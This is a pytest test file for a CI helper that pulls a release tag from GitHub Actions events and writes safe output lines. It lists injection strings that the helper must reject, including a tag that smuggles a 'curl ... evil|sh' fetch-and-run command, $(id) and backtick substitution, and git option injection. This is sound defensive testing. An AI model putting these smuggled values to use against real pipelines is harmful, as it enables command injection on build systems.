"""The tag that a job is to carry out: from the event, and never anything else than a tag."""

import json
from typing import Any

import pytest

from mltool.ci import github_outputs, github_tag
from mltool.ci.github_tag import Asked
from mltool.errors import UserError


def detect(name: str, ref: str, **event: Any) -> Asked:
    return github_tag.detect({"GITHUB_EVENT_NAME": name, "GITHUB_REF": ref}, json.dumps(event).encode())


def test_a_pushed_tag_is_asked_for_with_the_object_that_was_pushed() -> None:
    assert detect("push", "refs/tags/delay@v1.3.0", after="a" * 40) == Asked(tag="delay@v1.3.0", object="a" * 40)


@pytest.mark.parametrize("name", ["delay#prod#4", "team=churn#prod#12", "a/b/delay@v1.0.0-rc.1+gpu", "delay@v1.0.0!#2"])
def test_every_name_that_the_ledger_gives_is_understood(name: str) -> None:
    assert detect("push", f"refs/tags/{name}").tag == name


def test_a_run_by_hand_names_its_tag_or_is_started_on_it() -> None:
    assert detect("workflow_dispatch", "refs/heads/main", inputs={"tag": "delay@v1.0.0"}) == Asked(tag="delay@v1.0.0")
    assert detect("workflow_dispatch", "refs/tags/delay@v1.0.0", inputs={"tag": ""}) == Asked(tag="delay@v1.0.0")
    assert detect("workflow_dispatch", "refs/tags/delay@v1.0.0", inputs=None) == Asked(tag="delay@v1.0.0")


HOSTILE = [
    "m@v1.0.0;curl${IFS}evil|sh", "$(id)@v1.0.0", "`id`@v1.0.0", "m@v1.0.0\nact=true", "--upload-pack=x@v1.0.0",
    "m@v1.0.0 --force", "m@v1.0.0'", 'm@v1.0.0"', "m&&id@v1.0.0", "ｍ@v1.0.0", "m", "@v1.0.0", "m@",
    "x" * 300 + "@v1.0.0",
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_refused_wherever_it_comes_from(name: str) -> None:
    with pytest.raises(UserError):
        detect("push", f"refs/tags/{name}")
    with pytest.raises(UserError):
        detect("workflow_dispatch", "refs/heads/main", inputs={"tag": name})


@pytest.mark.parametrize(
    ("name", "ref", "event"),
    [
        ("push", "refs/heads/main", {}),
        ("push", "refs/heads/main", {"inputs": {"tag": "delay@v1.0.0"}}),
        ("pull_request", "refs/tags/delay@v1.0.0", {}),
        ("workflow_dispatch", "refs/heads/main", {"inputs": {"tag": ""}}),
        ("push", "refs/tags/delay@v1.0.0", {"deleted": True}),
        ("push", "refs/tags/delay@v1.0.0", {"after": "0" * 40}),
        ("push", "refs/tags/delay@v1.0.0", {"after": 3}),
    ],
)
def test_what_names_no_tag_is_refused(name: str, ref: str, event: dict[str, Any]) -> None:
    with pytest.raises(UserError):
        detect(name, ref, **event)


def test_outputs_are_lines_and_an_empty_value_is_one() -> None:
    assert (
        github_outputs.lines({"model": "a/b=c", "version": "1.0.0+gpu", "why": ""})
        == "model=a/b=c\nversion=1.0.0+gpu\nwhy=\n"
    )


@pytest.mark.parametrize("value", ["a\nb=c", "a\rb", "$(id)", "a b", "-rf", "a;b", "<<EOF"])
def test_a_value_that_could_be_more_than_a_value_is_refused(value: str) -> None:
    with pytest.raises(UserError, match="carry safely"):
        github_outputs.lines({"model": value})
